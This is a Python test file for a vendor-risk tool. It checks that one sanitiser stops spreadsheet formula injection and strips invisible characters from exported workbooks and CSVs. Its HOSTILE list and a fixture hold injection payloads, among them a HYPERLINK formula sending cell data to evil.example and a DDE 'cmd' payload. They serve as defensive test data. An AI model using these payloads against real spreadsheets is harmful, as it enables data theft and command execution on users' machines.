"""No cell a user opens runs as a formula, and nothing invisible hides what a cell starts with.

One sanitiser (risk.safety.text.safe_text) serves every writer: the procurement workbook, the audit
workbook, the review and issues tables, the PDFs. Checked over arbitrary Unicode (hypothesis)
and on real runs whose inputs, scenario names and catalog hold hostile text."""

import csv
import io
import json

import openpyxl
import pytest
from conftest import run_alg
from hypothesis import given, settings
from hypothesis import strategies as st
from layers import write_gpkg
from vendor_risk.risk.safety.text import safe_text, strip_invisible, unneutralise

TRIGGERS = "=+-@\uff1d\uff0b\uff0d\uff20"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    " =1+1",
    "\u200b=cmd|' /C calc'!A0",
    "\x01@SUM(1+1)",
    "\t=1",
    "\r\n+1",
    "\ufeff-2+3",
    "\u00a0\u3000＝1+1",
    "\u202e=1",
    "+cmd",
    "@IMPORTXML(x)",
    "\x00\x1f=A1",
]
INVISIBLE = set(chr(c) for c in range(0x20) if chr(c) not in "\t\n") | {
    "\x7f",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u200e",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\u00ad",
}


def _formula_like(text):
    start = text.lstrip()
    return bool(start) and start[0] in TRIGGERS


def _live(text):
    """What a spreadsheet would run: formula-like and not behind our quote."""
    return isinstance(text, str) and _formula_like(text) and not text.startswith("'")


@settings(max_examples=400, deadline=None)
@given(
    st.text(
        alphabet=st.characters(codec="utf-8")
        | st.sampled_from(sorted(INVISIBLE) + list(TRIGGERS) + [" ", "\u00a0", "\u3000"]),
        max_size=40,
    )
)
def test_safe_text_over_arbitrary_unicode(text):
    out = safe_text(text)
    assert not INVISIBLE & set(out)
    assert not _live(out)
    if _formula_like(strip_invisible(text)):
        assert out.startswith("'") and unneutralise(out) == strip_invisible(text)
    else:
        assert out == strip_invisible(text)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=30).map(lambda t: "\u200b =" + t))
def test_openpyxl_stores_every_sanitised_text_as_text(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("wb") / "t.xlsx"
    wb = openpyxl.Workbook()
    wb.active["A1"] = safe_text(text)
    wb.save(path)
    cell = openpyxl.load_workbook(path).active["A1"]
    assert cell.data_type == "s"


@pytest.fixture
def hostile_city(tmp_path):
    rows = [
        {
            "camera_id": text,
            "fabricant": ["Hikvision", text, "Axis"][i % 3],
            "modele": text,
            "type": "camera",
            "annee": 2020,
            "cout": 900.0,
        }
        for i, text in enumerate(HOSTILE)
    ]
    uri = write_gpkg(
        tmp_path / "city.gpkg", "cameras", rows, [f"POINT ({700000 + i} 6600000)" for i in range(len(rows))]
    )
    folder = tmp_path / "scenarios"
    folder.mkdir()
    (folder / "evil.json").write_text(
        json.dumps(
            {
                "id": "evil",
                "name": {"en": '=HYPERLINK("http://x","y")'},
                "description": "\u200b+cmd",
                "probability": 0.5,
                "list_scope": "bloc",
                "removal_from_level": 1,
                "removal_deadline": "2028-06-30",
            }
        ),
        encoding="utf-8",
    )
    return tmp_path, uri, folder


def _workbook_cells(path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell
        for chart in ws._charts:
            yield ws.title, chart.title


def test_review_file_is_safe_and_its_corrections_still_apply(hostile_city, provider):
    tmp, uri, _ = hostile_city
    review = tmp / "review.csv"
    run_alg(
        "vendorrisk:tagassets",
        {"INPUT": uri, "OUTPUT": str(tmp / "tagged.gpkg"), "OUTPUT_REVIEW": str(review)},
    )
    text = review.read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and all(not _live(v) for r in rows for v in r.values())
    assert not INVISIBLE & set(text.replace("\r\n", "\n"))
    hostile = next(r for r in rows if r["raw"] == "'=1+1")  # from " =1+1", made inert
    hostile["vendor_id"] = "axis"
    fixed = tmp / "fixed.csv"
    with open(fixed, "w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    res = run_alg(
        "vendorrisk:tagassets", {"INPUT": uri, "OUTPUT": str(tmp / "t2.gpkg"), "CORRECTIONS": str(fixed)}
    )
    from osgeo import ogr

    ds = ogr.Open(res["OUTPUT"].split("|")[0])
    vendors = {f["fabricant"]: f["vendor_id"] for f in ds.GetLayer(0)}
    assert vendors[HOSTILE[1]] == "axis"


def test_workbooks_hold_no_live_formula(hostile_city, provider):
    tmp, uri, scenarios = hostile_city
    gpkg = tmp / "risk.gpkg"
    run_alg(
        "vendorrisk:assessrisk",
        {
            "INPUT": [uri],
            "SCENARIO_FOLDER": str(scenarios),
            "SCENARIOS": "evil,status_quo",
            "OUTPUT": str(gpkg),
        },
    )
    xlsx = tmp / "risk.xlsx"
    run_alg("vendorrisk:exportworkbook", {"INPUT": str(gpkg), "OUTPUT": str(xlsx)})
    audit = tmp / "audit.xlsx"
    run_alg(
        "vendorrisk:auditcameras",
        {"INPUT": uri, "OUTPUT": str(tmp / "audit.gpkg"), "OUTPUT_XLSX": str(audit)},
    )
    for path in (xlsx, audit):
        live = [
            (sheet, getattr(c, "coordinate", "chart"), getattr(c, "value", c))
            for sheet, c in _workbook_cells(path)
            if getattr(c, "data_type", "s") == "f" or _live(getattr(c, "value", None))
        ]
        assert live == [], path
        seen = [c.value for _, c in _workbook_cells(path) if isinstance(getattr(c, "value", None), str)]
        assert any("HYPERLINK" in v for v in seen), path  # the text is kept, inert
        assert not [v for v in seen if INVISIBLE & set(v)], path
